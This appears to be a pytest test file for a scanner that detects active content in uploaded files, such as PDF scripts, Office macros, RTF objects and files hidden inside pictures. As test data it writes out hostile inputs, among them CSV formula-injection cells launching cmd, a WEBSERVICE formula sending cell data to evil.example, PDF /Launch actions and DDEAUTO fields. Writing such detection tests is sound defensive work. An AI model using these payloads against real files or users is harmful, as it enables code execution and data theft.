"""Active content beyond the first bytes of a file."""

import io
import time
import zipfile

import pytest
from PIL import Image
from pypdf import PdfWriter
from reportlab.pdfgen.canvas import Canvas

from foundation.inspection.file_contents import PIECE, find_active_content
from foundation.inspection.file_types import detect_type
from tests.office_files import OOXML, make_office, make_zip
from tests.pdf_files import BLACK, make_pdf, stream, update_pdf

SCRIPT = rb"<< /Type /Action /S /JavaScript /JS (app.launchURL\(1\)) >>"
AT_START = b"/OpenAction 5 0 R"
SCRIPTS = "The PDF contains scripts."
FILES = "The PDF contains other files."
STARTS = "The PDF starts a program or opens another address by itself."
MEDIA = "The PDF contains video, sound or 3D."
PASSWORD = "The file asks for a password, so it cannot be checked."
DAMAGED = "The PDF is damaged, so it cannot be checked."
SHELL = "Active content: text/x-shellscript."
HTML = "Active content: text/html."
MAIL = "The mail has parts that cannot be checked."
HIDDEN = "The file has another file hidden in it."
AROUND = "The PDF has other data in front of it or behind it."
OUTSIDE = "The PDF shows content of other files."
COMMANDS = "The file contains fields or formulas that start programs or load data."
MACROS = "The file contains macros or embedded programs."
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
WORD = "word/document.xml"


def picture(kind, **options):
    file = io.BytesIO()
    Image.linear_gradient("L").save(file, kind, **options)
    return file.getvalue()


PNG = picture("PNG")
JPEG = picture("JPEG", comment=b"a phone", exif=Image.Exif().tobytes())


def reason_of(content):
    return find_active_content(io.BytesIO(content), detect_type(content[:8192]))


def zipped(*names, content="x", method=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name in names:
            archive.writestr(name, content)
    return buffer.getvalue()


def drawn(**options):
    """Return a report of reportlab with what reports have: links, an outline and a form."""
    file = io.BytesIO()
    canvas = Canvas(file, **options)
    canvas.drawString(72, 700, "Services: HTML/JavaScript, /Launch of sites, /EF and /XFA")
    canvas.linkURL("https://example.com/", (72, 600, 200, 620))
    canvas.bookmarkPage("here")
    canvas.addOutlineEntry("Here", "here")
    canvas.acroForm.textfield(name="name", value="Ada", x=72, y=500)
    canvas.showPage()
    canvas.save()
    return file.getvalue()


def encrypted(content, algorithm, password=""):
    writer, file = PdfWriter(clone_from=io.BytesIO(content)), io.BytesIO()
    writer.encrypt(password, owner_password="owner", algorithm=algorithm)
    writer.write(file)
    return file.getvalue()


def with_attachment():
    writer, file = PdfWriter(clone_from=io.BytesIO(make_pdf())), io.BytesIO()
    writer.add_attachment("setup.exe", b"MZ")
    writer.write(file)
    return file.getvalue()


def xfa(script):
    form = b"<xdp:xdp xmlns:xdp='x'><template xmlns='y'>%s</template></xdp:xdp>" % script
    return make_pdf(
        stream(form), b"<< /XFA [(template) 5 0 R] /Fields [] >>", catalog=b"/AcroForm 6 0 R"
    )


ACTIVE_PDF = {
    "a script at the start": (make_pdf(SCRIPT, catalog=AT_START), SCRIPTS),
    "in an object stream": (make_pdf(SCRIPT, catalog=AT_START, is_compressed=True), SCRIPTS),
    "an escaped name": (make_pdf(rb"<< /S /J#61vaScrip#74 /#4a#53 (x\(\)) >>"), SCRIPTS),
    "a script in a stream": (
        make_pdf(b"<< /S /JavaScript /JS 6 0 R >>", stream(b"app.launchURL(1)")), SCRIPTS,
    ),
    "a script of a field": (
        make_pdf(rb"<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (x\(\)) >> >> >>"), SCRIPTS,
    ),
    "a script by another name": (
        make_pdf(rb"<< /S /JavaScript /JS (this['ev' + 'al']\(1\)) >>"), SCRIPTS,
    ),
    "a script after a fake text": (
        make_pdf(rb'<< /S /JavaScript /JS (/"/; evil\(\); /"/) >>'), SCRIPTS,
    ),
    "a script behind encryption": (
        encrypted(make_pdf(SCRIPT, catalog=AT_START), "AES-256"), SCRIPTS,
    ),
    "a script in an XFA form": (xfa(b"<script>xfa.host.gotoURL(1)</script>"), SCRIPTS),
    "an XFA form that sends": (xfa(b"<submit target='http://example.com'/>"), STARTS),
    "a program": (make_pdf(b"<< /S /Launch /F (cmd.exe) >>"), STARTS),
    "an address at the start": (
        make_pdf(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://example.com) >> >>",
                 catalog=AT_START), STARTS,
    ),
    "an address as a page opens": (
        make_pdf(page=b"/AA << /O << /S /GoToR /F (x.pdf) >> >>"), STARTS,
    ),
    "a file in it": (with_attachment(), FILES),
    "a film": (make_pdf(b"<< /Type /Annot /Subtype /RichMedia >>"), MEDIA),
    "a password": (encrypted(make_pdf(), "AES-256", password="secret"), PASSWORD),
    "an old version": (update_pdf(make_pdf(SCRIPT, catalog=AT_START), 5, b"null"), SCRIPTS),
    "a page of another file": (
        make_pdf(b"<< /Subtype /Form /Ref << /F (a.pdf) /Page 0 >> >>"), OUTSIDE,
    ),
    "the content of another file": (
        make_pdf(b"<< /Length 0 /F (http://example.com/a) >>\nstream\n\nendstream"), OUTSIDE,
    ),
    "a program by reference": (make_pdf(b"<< /S 6 0 R /F (cmd.exe) >>", b"/Launch"), STARTS),
    "HTML in front": (b"<html>\0" + make_pdf(), AROUND),
    "a script in front": (b"/*\0" + make_pdf(), AROUND),
    "HTML behind": (make_pdf() + b"<script src=x></script>", AROUND),
    "HTML behind, with an end": (make_pdf() + b"<html><body onload=x()> %%EOF\n", AROUND),
    "much behind": (make_pdf() + b"a" * 2000, AROUND),
    "an archive behind": (make_pdf() + make_zip({"a.exe": b"MZ"}), HIDDEN),
    "a disc": (make_pdf().ljust(0x8001, b"\0") + b"CD001" + bytes(99), HIDDEN),
    "a name that hides": (b"%PDF-1.7\n1 0 obj\n<< /OpenAction 2 0 R >>\nno more", DAMAGED),
}  # fmt: skip
GOOD_PDF = {
    "drawn": drawn(),
    "drawn without compression": drawn(pageCompression=0),
    "a page at the start": make_pdf(b"[3 0 R /Fit]", catalog=AT_START),
    "a jump at the start": make_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>", catalog=AT_START),
    "object streams": make_pdf(b"<< /Type /Metadata >>", is_compressed=True),
    "an address behind a click": make_pdf(b"<< /Subtype /Link /A << /S /URI /URI (x) >> >>"),
    "the format of a field": make_pdf(
        rb'<< /FT /Tx /AA << /F << /S /JavaScript /JS (AFNumber_Format\(2, 0, 0, 0, "", true\);)'
        rb" >> >> >>"
    ),
    "a tax office's XFA form": xfa(
        b'<script>comment();\nvar fld = this.getField ("c1_01(0)");\n'
        b"if (fld.isBoxChecked(0)) {\n   fld.checkThisBox (0, true);\n}</script>"
    ),
    "blank lines around": b"\xef\xbb\xbf\r\n" + make_pdf() + b"\r\n\0\0\n",
    "a comment behind": make_pdf() + b"%signed by nobody <a>\n",
    "a new version": update_pdf(make_pdf(b"<< /A 1 >>"), 5, b"<< /A 2 >>"),
    "references of a tagged text": make_pdf(b"<< /Type /StructElem /Ref [3 0 R] >>"),
    "rights of Adobe's viewer": make_pdf(b"<< /Type /TransformParams /EF [/Create /Delete] >>"),
    **{f"encrypted by {one}": encrypted(drawn(), one) for one in ("RC4-128", "AES-128", "AES-256")},
}
ACTIVE = {
    "HTML behind padding": (b"a" * 9000 + b"<script>alert(1)</script>", HTML),
    "HTML between pieces": (b" " * (PIECE - 4) + b"<iframe src=x>", HTML),
    "SVG at the end": (b"a\n" * PIECE + b"<svg onload=x>", "Active content: image/svg+xml."),
    "HTML in UTF-16": (("a" * 9000 + "<script>").encode("utf-16"), HTML),
    "HTML in unknown data": (b"\0\1\2" * 4000 + b"<script>", HTML),
    "a script after blank lines": (b"\n" * 9000 + b"#!/bin/sh\n", SHELL),
    "an object in a rich text": (rb"{\rtf1" + b" " * 9000 + rb"{\object\objdata 01}}", MACROS),
    "macros of Word": (zipped(WORD, *map(str, range(400)), "word/vbaProject.bin"), MACROS),
    "macros of old Excel": (zipped("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), MACROS),
    "ActiveX": (zipped(WORD, "word/activeX/activeX1.bin"), MACROS),
    "an embedded program": (zipped(WORD, "word/embeddings/oleObject1.bin"), MACROS),
    "macros of old Word": (OLE + "_VBA_PROJECT".encode("utf-16-le"), MACROS),
    "a package in old Word": (OLE + "\x01Ole10Native".encode("utf-16-le"), MACROS),
    "Word with a password": (OLE + "EncryptedPackage".encode("utf-16-le"), PASSWORD),
    "a workbook with macros in old Word": (
        OLE + "Package".encode("utf-16-le") + zipped("xl/workbook.xml", "xl/vbaProject.bin"),
        MACROS,
    ),
    "an archive with a program in old Word": (
        OLE + "Package".encode("utf-16-le") + zipped("Setup.exe"),
        "The archive contains active content: .exe.",
    ),
    "a program in an archive": (
        zipped(*(f"{n}.txt" for n in range(4000)), "Setup.EXE"),
        "The archive contains active content: .exe.",
    ),
    "HTML behind a picture": (JPEG + b"<script>alert(1)</script>", HIDDEN),
    "HTML within a picture": (JPEG[:20] + b"<svg onload=alert(1)>" + JPEG[20:], HIDDEN),
    "an archive behind a picture": (JPEG + make_zip({"a.txt": "x"}), HIDDEN),
    "an archive behind a PNG": (PNG + make_zip({"a.exe": b"MZ"}, zipfile.ZIP_STORED), HIDDEN),
    "a RAR behind a picture": (PNG + b"Rar!\x1a\x07\0", HIDDEN),
    "a 7z behind a picture": (PNG + b"7z\xbc\xaf\x27\x1c", HIDDEN),
    "a PDF within a picture": (JPEG[:20] + make_pdf() + JPEG[20:], HIDDEN),
    "a disc behind a picture": (PNG.ljust(0x8001, b"\0") + b"CD001", HIDDEN),
    "a program behind a picture": (JPEG + b"MZ\0This program cannot be run in DOS mode.", HIDDEN),
    "a mail": (b"MIME-Version: 1.0\nContent-Transfer-Encoding: base64\n", MAIL),
    "a mail of Outlook": (OLE + "__attach_version1.0_#00000000".encode("utf-16-le"), MAIL),
    "a sheet of macros of older Excel": (
        OLE + bytes.fromhex("8500 0d00 00000000 00 01 06") + b"Macro1", MACROS,
    ),
    "an archive in unknown data": (b"\0\1\2" * 4000 + make_zip({"a.txt": "x"}), HIDDEN),
    "notes in unknown data": (b"\0\1" + bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3"), HIDDEN),
    "an object in pieces": (rb"{\rtf1 {\obj{}data 01}}", MACROS),
    "an object that can be ignored": (rb"{\rtf1{\*\objdata 0 1 0\n5}}", MACROS),
    "an object behind a short head": (rb"{\rt{\object\objemb 01}}", MACROS),
    "an object behind binary data": (b"{\\rtf1\x01\x02\\bin3 abc}", MACROS),
    "a field of a rich text": (rb"{\rtf1{\field{\*\fldinst DDEAUTO calc}}}", MACROS),
    "a template of a rich text": (rb"{\rtf1{\*\template http://example.com/a.dotm}}", MACROS),
    "XML of old Office": (
        b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><a/>", MACROS,
    ),
    "a program in a CSV file": (b"name,amount\nAda,=cmd|'/c calc'!A0\n", COMMANDS),
    "a program in a CSV file, later": (b"a;+1+MSEXCEL|'\\..\\cmd.exe /c calc'!A\n", COMMANDS),
    "a program in a CSV file, with its item in quotes": (b"=cmd|'/c calc'!'A1'\n", COMMANDS),
    "a program in a CSV file, by its path": (b"1;@'c:\\a b\\cmd.exe'|'/c calc'!A1\n", COMMANDS),
    **{
        f"the cell {cell}": (f"name,note\nAda,{cell}\n".encode(), COMMANDS)
        for cell in (
            '=WEBSERVICE("http://evil.example/"&A1)', '"=WEBSERVICE(""http://evil.example/"")"',
            '+WEBSERVICE("http://evil.example")', "-1+webservice (A1)", "@SUM(A1)*2",
            "@hyperlink(A1)", "=IF(1,A1)", "  =SUM(1+9)", "=+HYPERLINK(A1)",
            '\t=IMPORTXML("http://evil.example","//a")', "x^=SUM(A1)",
            "=1+IMAGE(A1)", "=-REGISTER(A1)", "\uff1dSUM(A1)", '=DDE("soffice";"a";"b")',
        )
    },
    "a formula in UTF-16": ("a,b\r\n1,=WEBSERVICE(A1)\r\n".encode("utf-16"), COMMANDS),
    "a text of old Word that is loaded": (OLE + b"\x13 INCLUDETEXT http://a.example", COMMANDS),
    "a picture of old Word that is loaded": (
        OLE + ' \x13 INCLUDEPICTURE "http://a.example" '.encode("utf-16-le"), COMMANDS,
    ),
    "macros in other letters": (OLE + "_vba_Project".encode("utf-16-le"), MACROS),
    "a sheet of macros": (
        OLE + bytes.fromhex("8500 0e00 00000000 00 01 06 00") + b"Macro1", MACROS,
    ),
    "a DDE field of old Word": (OLE + b"\x13 DDEAUTO c:\\cmd", COMMANDS),
    "an archive in an archive": (
        zipped("in.zip", content=zipped("a.js"), method=zipfile.ZIP_STORED),
        "The archive contains active content: .js.",
    ),
    "an endless name": (
        zipped("a" * 1000 + ".exe"), "The archive has a file name that is too long to be checked.",
    ),
}  # fmt: skip
GOOD = [
    JPEG,
    JPEG + b"\0\0\0\x18ftypmp42" + bytes(range(256)) * 99,  # a photo that moves
    JPEG + JPEG + b"SEFHe\0\0\0SEFT",  # two pictures, and the notes of the phone
    PNG,
    PNG + bytes(99) + b"a screenshot",
    OLE + b"PK\3\4 PK\1\2 PK\5\6",  # a theme
    OLE + "Package".encode("utf-16-le") + zipped("xl/workbook.xml", "xl/worksheets/sheet1.xml"),
    OLE + bytes.fromhex("8500 0e00 00000000 00 00 06 00") + b"Sheet1",
    rb"{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\datastore 0105}\f0 Hello \b Ada\b0\par}",
    b'a,b\n-5|6,e-mail|call us now!\nx-ray|wow!\n=A1&"|"\n',
    b"day,amount,phone\n2026-01-02,-12.50,+1 415 555 0100\n2026-01-03,+7,@ada (owner)\n",
    b"Owner(s):\n- item (a)\n=====\nA = B(c); call (212) 555-0100, image(s), a@b.example (Ada)\n",
    b"ID;Product\nB;Bread\n",
    b"name,amount\nimport goods from China,1 < 2 && a > b\n" * 9000,
    b"<?xml version='1.0'?><invoice>" + b"<total>1</total>" * 9000 + b"</invoice>",
    bytes(range(256)) * 1000,
    zipped("a.txt", "b/c.pdf", "www.example.com/"),
    make_office(
        "word",
        {"word/media/image1.svg": "<svg/>", "word/embeddings/a.xlsx": zipped("a.xml")},
        defaults={"svg": "image/svg+xml", "xlsx": OOXML + "spreadsheetml.sheet"},
    ),
    OLE + bytes(PIECE),
    b"\x89PNG\r\n\x1a\n" + bytes(9000) + b"<script>",  # never shown as anything but a picture
]


@pytest.mark.parametrize("case", ACTIVE_PDF)
def test_a_pdf_that_acts_is_found(case):
    content, reason = ACTIVE_PDF[case]

    assert reason_of(content) == reason


@pytest.mark.parametrize("case", GOOD_PDF)
def test_an_ordinary_pdf_is_taken(case):
    assert reason_of(GOOD_PDF[case]) == ""


@pytest.mark.parametrize("case", ACTIVE)
def test_a_whole_file_is_looked_at(case):
    content, reason = ACTIVE[case]

    assert reason_of(content) == reason


@pytest.mark.parametrize("content", GOOD)
def test_an_ordinary_file_is_taken(content):
    assert reason_of(content) == ""


def test_an_archive_with_a_password_is_found():
    archive = bytearray(zipped("a.txt"))
    archive[6] |= 1  # the flag before the member

    assert reason_of(bytes(archive)) == PASSWORD


def test_a_header_within_a_fake_header_is_found():
    fake = b"PK\3\4" + bytes(14)

    assert reason_of(fake + zipped("a.exe")) == "The archive contains active content: .exe."


@pytest.mark.parametrize("text", ["<", "/**/", "import a ", "PK\3\4", "#61", "\\obj", " "])
def test_no_file_takes_long(text):
    content = text.encode() * (1024**2 // len(text))
    start = time.process_time()

    for detected in ("text/plain", "application/zip", "application/pdf"):
        find_active_content(io.BytesIO(content), detected)

    assert time.process_time() - start < 3


def test_a_page_without_limits_is_no_active_content():
    assert reason_of(make_pdf(drawing=BLACK * 100_000)) == ""
